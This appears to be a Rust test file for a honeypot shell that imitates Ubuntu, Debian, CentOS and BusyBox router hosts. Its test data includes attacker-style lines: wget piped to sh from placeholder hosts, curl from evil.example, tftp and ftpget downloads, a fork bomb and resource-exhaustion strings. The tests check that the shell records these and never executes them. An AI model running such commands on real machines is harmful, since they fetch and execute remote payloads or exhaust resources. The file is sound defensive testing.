#![allow(clippy::unwrap_used)]

use proptest::prelude::*;

use super::*;

mod attackers;
mod language;

fn shell(user: &str) -> Shell {
    shell_of("ubuntu", user)
}

fn shell_of(personality: &str, user: &str) -> Shell {
    let personality = Personality::find(personality);
    let machine = Machine::new(&[3; 32], "web-07", personality);
    Shell::new(Arc::new(machine), user, Mode::Login)
}

fn says(shell: &mut Shell, line: &str) -> String {
    String::from_utf8(shell.run(line.as_bytes()).output).unwrap()
}

#[test]
fn it_answers_as_a_server_does() {
    let mut shell = shell("root");
    for (line, answer) in [
        ("whoami", "root\n"),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n"),
        ("uname", "Linux\n"),
        ("uname -n", "web-07\n"),
        ("hostname", "web-07\n"),
        ("nproc", "2\n"),
        ("pwd", "/root\n"),
        ("cd /etc; pwd", "/etc\n"),
        ("cd; pwd", "/root\n"),
        (
            "cd /nowhere",
            "-bash: cd: /nowhere: No such file or directory\n",
        ),
        ("cat /etc/hostname", "web-07\n"),
        (
            "cat /etc/none",
            "cat: /etc/none: No such file or directory\n",
        ),
        ("foo", "-bash: foo: command not found\n"),
        ("./foo", "-bash: ./foo: No such file or directory\n"),
        ("/bin/busybox VGJZK", "VGJZK: applet not found\n"),
        ("busybox echo hi", "hi\n"),
        ("which wget", "/usr/bin/wget\n"),
        ("sudo whoami", "root\n"),
        (
            "echo 'a",
            "-bash: unexpected EOF while looking for matching `''\n",
        ),
        ("ls /etc/ssh", "sshd_config\n"),
        ("head -n 1 /etc/passwd | cut -d: -f7", "/bin/bash\n"),
        ("cat /proc/cpuinfo | grep 'model name' | wc -l", "2\n"),
        ("echo $((6*7)) $HOME \"$USER x\" $?", "42 /root root x 0\n"),
        ("false; echo $?; true && echo yes || echo no", "1\nyes\n"),
        ("cd /nope 2>/dev/null || cd /tmp; pwd; cd", "/tmp\n"),
        ("echo $(echo a $(echo b)) `echo c`", "a b c\n"),
        ("echo -e '\\x41\\102\\0103\\n'", "ABC\n\n"),
        ("if [ -f /etc/passwd ]; then echo there; fi", "there\n"),
        ("echo aGk= | base64 -d", "hi"),
        ("bash -c 'exit 3'; echo $?", "3\n"),
    ] {
        assert_eq!(says(&mut shell, line), answer, "{line}");
    }
    assert!(says(&mut shell, "uname -a").starts_with("Linux web-07 5.15.0-"));
    assert!(says(&mut shell, "ls -la /").contains("drwxrwxrwt 2 root root   4096"));
    assert!(shell.run(b"cat /bin/ls").output.starts_with(b"\x7fELF"));
    assert!(says(&mut shell, "ls /bin").contains("busybox"));
}

#[test]
fn files_can_be_made_changed_and_run() {
    let mut shell = shell("root");
    assert_eq!(
        says(&mut shell, "cd /tmp && echo 'echo hi $USER' > a.sh; ./a.sh"),
        "-bash: ./a.sh: Permission denied\n"
    );
    assert_eq!(
        says(&mut shell, "chmod +x a.sh; ./a.sh; sh a.sh"),
        "hi root\nhi root\n"
    );
    assert_eq!(
        says(&mut shell, "cp /bin/ls x; ./x"),
        "-bash: ./x: cannot execute binary file: Exec format error\n"
    );
    assert_eq!(
        says(
            &mut shell,
            "mkdir -p d/e; mv a.sh d/e; ls d/e; rm -rf d; ls d"
        ),
        "a.sh\nls: cannot access 'd': No such file or directory\n"
    );
    assert_eq!(
        says(
            &mut shell,
            ">y; echo 1 >>y; echo 2 >>y; cat <y; dd if=y bs=1 count=1 2>/dev/null"
        ),
        "1\n2\n1"
    );
    assert_eq!(shell.run_with(b"cat > z", b"\x00\xff").output, b"");
    assert_eq!(shell.run(b"cat z").output, b"\x00\xff");
}

#[test]
fn addresses_are_noted_and_nothing_is_fetched() {
    let mut shell = shell("root");
    let outcome = shell.run(b"cd /tmp; wget -q http://192.0.2.1/x.sh -O- | sh; curl -O evil.example/y; tftp -g -r z 192.0.2.2; ftpget -u a 192.0.2.3 l r");
    assert_eq!(
        outcome.urls,
        [
            b"http://192.0.2.1/x.sh".to_vec(),
            b"http://evil.example/y".to_vec(),
            b"tftp://192.0.2.2/z".to_vec(),
            b"ftp://192.0.2.3/r".to_vec()
        ]
    );
    assert!(outcome.pause <= PAUSE);
    assert!(
        says(&mut shell, "wget http://evil.example/").contains("unable to resolve host address")
    );
    assert!(says(&mut shell, "ls").is_empty());
}

#[test]
fn a_user_is_no_root() {
    let mut shell = shell("pi");
    assert_eq!(shell.prompt(), b"pi@web-07:~$ ");
    assert_eq!(
        says(&mut shell, "cat /etc/shadow"),
        "cat: /etc/shadow: Permission denied\n"
    );
    assert!(says(&mut shell, "grep pi: /etc/passwd").starts_with("pi:x:1000:"));
    assert_eq!(says(&mut shell, "cd /var/log; pwd"), "/var/log\n");
    assert_eq!(shell.prompt(), b"pi@web-07:/var/log$ ");
}

#[test]
fn nothing_grows_without_bounds() {
    let mut shell = shell("root");
    for line in [
        "A=x; ".to_owned() + &"A=$A$A$A$A; ".repeat(200) + "echo $A$A$A",
        "cat /etc/passwd; ".repeat(3000),
        "$(".repeat(2000) + &")".repeat(2000),
        "sudo ".repeat(4000),
        "busybox sh -c ".repeat(2000),
        "`".repeat(60_000),
        "$()".repeat(20_000),
        "echo '. /tmp/a' > /tmp/a; . /tmp/a; sh /tmp/a".to_owned(),
        "sleep 100; ".repeat(200),
        "wget http://192.0.2.1/; ".repeat(500),
        "x".repeat(1_000_000),
        "while :; do :; done".to_owned(),
        "while true; do echo x; sleep 1; done".to_owned(),
        "f() { f; f; }; f".to_owned(),
        ":(){ :|:& };:".to_owned(),
        "for i in {1..4096}; do for j in {1..4096}; do echo /*/*/*; done; done".to_owned(),
        "seq 99999 > /tmp/n; for i in {1..400}; do cat /tmp/n | grep -E '(a*)*b' | sed 's/a/b/g' | awk '{n+=$1} END {print n}' | tr a-z A-Z; done".to_owned(),
        "yes | head -c 60000 > /tmp/y; for i in {1..900}; do cat /tmp/y /tmp/y > /tmp/z; sort /tmp/z; done".to_owned(),
        "printf '%999d' ; printf \"".to_owned() + &"%999d".repeat(9000) + "\"",
        "{".to_owned() + &"a,".repeat(16_000) + "}" + &"x".repeat(32_000),
        "set -- ".to_owned() + &"a ".repeat(4000) + "; " + &"echo \"$@\" \"$@\"; ".repeat(900),
        "case ".to_owned() + &"a".repeat(30_000) + " in " + &"*a".repeat(15_000) + "b) ;; esac",
        "X=".to_owned() + &"a".repeat(4000) + "; for i in {1..400}; do echo ${X%%*a*a*a*a*b}; done",
        "cat <<E\n".to_owned() + &"$(cat <<E\n".repeat(4000),
        "((".repeat(30_000),
        "echo $((".to_owned() + &"(".repeat(60_000) + "))",
        "awk '{x=x \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\" x; print x,x,x,x,x}' /tmp/n".to_owned(),
        "if ".repeat(20_000),
        "f() { echo ".to_owned() + &"a ".repeat(12_000) + "; }; g() { echo " + &"a ".repeat(12_000) + "; }",
        "tr '".to_owned() + &"\\0-\\377".repeat(120) + "' x < /tmp/n",
    ] {
        let started = std::time::Instant::now();
        let outcome = shell.run(line.as_bytes());
        let took = started.elapsed();
        assert!(took < Duration::from_secs(10), "{took:?}: {line:.60}");
        assert!(outcome.output.len() <= OUTPUT);
        assert!(outcome.pause <= PAUSE);
        assert!(outcome.urls.len() <= URLS);
    }
    let exit = shell.run(b"exit 7");
    assert!(exit.ended);
    assert_eq!(exit.status, 7);
}

#[test]
fn what_waits_for_input_is_told_apart() {
    for line in [
        "cat > x",
        "cat | sh",
        "sh",
        "/bin/bash -s",
        "cd /tmp; cat >.a && chmod 777 .a",
        "dd of=x",
        "tee /tmp/x",
    ] {
        assert!(Shell::reads(line.as_bytes()).is_some(), "{line}");
    }
    for line in [
        "cat x",
        "echo | cat",
        "sh -c id",
        "bash x.sh",
        "cat < x",
        "id",
        "dd if=a of=b",
    ] {
        assert_eq!(Shell::reads(line.as_bytes()), None, "{line}");
    }
}

#[test]
fn every_personality_is_another_machine() {
    for (name, prompt, lines) in [
        (
            "ubuntu",
            "root@web-07:~# ",
            [
                (
                    "uname -a",
                    "Linux web-07 5.15.0-113-generic #123-Ubuntu SMP Mon Jun 10 08:16:17 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n",
                ),
                ("grep ^ID= /etc/os-release", "ID=ubuntu\n"),
                ("grep -c processor /proc/cpuinfo", "2\n"),
                ("nosuch", "-bash: nosuch: command not found\n"),
                ("which apt yum", "/usr/bin/apt\n"),
                ("head -c 20 /bin/ls | tail -c 2 | base64", "PgA=\n"),
            ],
        ),
        (
            "debian",
            "root@web-07:~# ",
            [
                (
                    "uname -a",
                    "Linux web-07 6.1.0-21-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.90-1 (2024-05-03) x86_64 GNU/Linux\n",
                ),
                ("grep ^ID= /etc/os-release", "ID=debian\n"),
                ("cat /etc/debian_version", "12.5\n"),
                ("nosuch", "-bash: nosuch: command not found\n"),
                ("which apt yum", "/usr/bin/apt\n"),
                ("ip r | head -1 | cut -d' ' -f5", "ens3\n"),
            ],
        ),
        (
            "centos",
            "[root@web-07 ~]# ",
            [
                ("uname -r", "3.10.0-1160.el7.x86_64\n"),
                (
                    "cat /etc/redhat-release",
                    "CentOS Linux release 7.9.2009 (Core)\n",
                ),
                ("busybox", "-bash: busybox: command not found\n"),
                ("apt-get", "-bash: apt-get: command not found\n"),
                ("which apt yum", "/usr/bin/yum\n"),
                (
                    "ls /etc/debian_version",
                    "ls: cannot access '/etc/debian_version': No such file or directory\n",
                ),
            ],
        ),
        (
            "busybox-router",
            "root@web-07:~# ",
            [
                ("uname -m", "mips\n"),
                ("nosuch", "-ash: nosuch: not found\n"),
                (
                    "grep 'cpu model' /proc/cpuinfo",
                    "cpu model\t\t: MIPS 74Kc V4.12\n",
                ),
                ("curl http://192.0.2.1/", "-ash: curl: not found\n"),
                ("/bin/busybox ECCHI", "ECCHI: applet not found\n"),
                (
                    "wget http://192.0.2.1/a",
                    "Connecting to 192.0.2.1:80\nwget: can't connect to remote host (192.0.2.1): Connection timed out\n",
                ),
            ],
        ),
    ] {
        let mut shell = shell_of(name, "root");
        assert_eq!(String::from_utf8(shell.prompt()).unwrap(), prompt);
        for (line, answer) in lines {
            assert_eq!(says(&mut shell, line), answer, "{name}: {line}");
        }
    }
    let mut router = shell_of("busybox-router", "root");
    assert!(
        router
            .run(b"cat /bin/busybox")
            .output
            .starts_with(b"\x7fELF\x01\x02")
    );
    assert!(says(&mut router, "busybox").contains("wget"));
    assert!(!says(&mut router, "busybox").contains("curl"));
}

proptest! {
    #[test]
    fn no_bytes_panic(lines in prop::collection::vec(any::<Vec<u8>>(), 1..4)) {
        let mut shell = shell("root");
        for line in lines {
            prop_assert!(shell.run(&line).output.len() <= OUTPUT);
            prop_assert!(!shell.prompt().is_empty());
        }
    }

    #[test]
    fn no_commands_panic(words in prop::collection::vec(prop_oneof![
        prop::sample::select(commands::names()),
        prop::sample::select(vec!["-la", "-n", "-c", "-x", "/", "..", "/tmp/a", "*", "$HOME", "$(id)", "|", ";", ">", ">>", "<", "2>&1", "&&", "'", "%s", "\\x", "-5", "-d", "é", "=", "a=b", "-", "/etc/passwd", "s/a/[b/g", "{print $1,$NF}", "-F:", "a\\|b", "[", "1,$p", "-e", "{", "}", "+%s"].into_iter().map(str::to_owned).collect::<Vec<_>>()),
    ], 0..12)) {
        let mut shell = shell("admin");
        prop_assert!(shell.run(words.join(" ").as_bytes()).output.len() <= OUTPUT);
    }

    #[test]
    fn no_script_panics_or_hangs(words in prop::collection::vec(prop::sample::select(vec![
        "if", "then", "else", "elif", "fi", "for", "i", "in", "do", "done", "while", "until", "case", "esac", ";;",
        "{", "}", "(", ")", "!", "f()", "f", "function", ";", "\n", "&", "&&", "||", "|", "true", "false", ":",
        "echo $i", "read i", "break", "continue 2", "return", "shift", "set -- a b", "i=$((i+1))", "[ $i -lt 9 ]",
        "<<E\nx$i\nE\n", "<<'E'", "> /tmp/x", "< /tmp/x", "eval \"$i\"", "${i:-x}", "${i%%*x}", "\"$@\"", "$(f)", "`f`",
        "sh -c f", ". /tmp/x", "{1..99999}", "/*/*", "xargs sh -c", "seq 99999",
    ]), 0..40)) {
        let mut shell = shell("root");
        let outcome = shell.run(words.join(" ").as_bytes());
        prop_assert!(outcome.output.len() <= OUTPUT);
        prop_assert!(outcome.pause <= PAUSE);
    }
}
